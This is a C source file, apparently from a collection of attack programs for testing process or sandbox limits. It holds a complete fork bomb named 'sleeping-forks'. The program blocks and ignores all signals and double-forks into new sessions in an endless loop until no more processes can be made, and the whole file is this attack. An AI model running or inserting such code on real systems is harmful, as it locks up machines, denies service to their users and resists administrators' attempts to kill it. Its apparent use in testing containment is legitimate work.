/* sleeping-forks: doubly forked, in sessions of their own, deaf to every signal, until no more can be had; all sleep. */
#include "attack.h"
int main(void) {
  sigset_t all;
  sigfillset(&all);
  sigprocmask(SIG_BLOCK, &all, NULL);
  for (int number = 1; number < 65; number++) signal(number, SIG_IGN);
  for (;;) {
    pid_t pid = fork();
    if (pid == 0) {
      setsid();
      if (fork() != 0) _exit(0);
      setsid();
      continue; /* the grandchild goes on */
    }
    pause_ms(20);
  }
}
